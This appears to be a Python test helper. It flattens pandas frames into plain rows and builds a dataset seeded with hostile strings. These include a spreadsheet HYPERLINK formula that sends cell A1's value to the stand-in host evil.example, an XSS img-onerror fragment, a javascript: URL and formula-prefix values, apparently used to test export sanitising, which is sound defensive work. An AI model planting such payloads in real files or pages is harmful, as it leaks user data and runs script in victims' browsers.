"""Rows of frames as plain values, to compare files with."""

import pandas as pd

from tests.datasets import small_dataset

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1, "{more}") </script><img src=x onerror=alert(1)>'


def plain(frame):
    """Return the rows of a pandas frame: dates as dates, missing cells as None."""
    return [
        {name: value(cell) for name, cell in row.items()} for row in frame.to_dict(orient="records")
    ]


def value(cell):
    if cell is None or cell is pd.NA or cell != cell:
        return None
    return cell.date() if isinstance(cell, pd.Timestamp) else cell


def hostile():
    """Return the small dataset with texts that try to be more than texts."""
    return small_dataset(
        events={0: {"title": HOSTILE, "summary": f"+{HOSTILE}"}, 1: {"title": "-2+3"}},
        figures={0: {"title": "@SUM(A1)", "note": f"\u2028{HOSTILE}"}},
        sources={0: {"title": HOSTILE, "url": "javascript:alert(1)"}},
        places={1: {"name": HOSTILE, "lat": 52.5, "lon": 23.5}},
    )
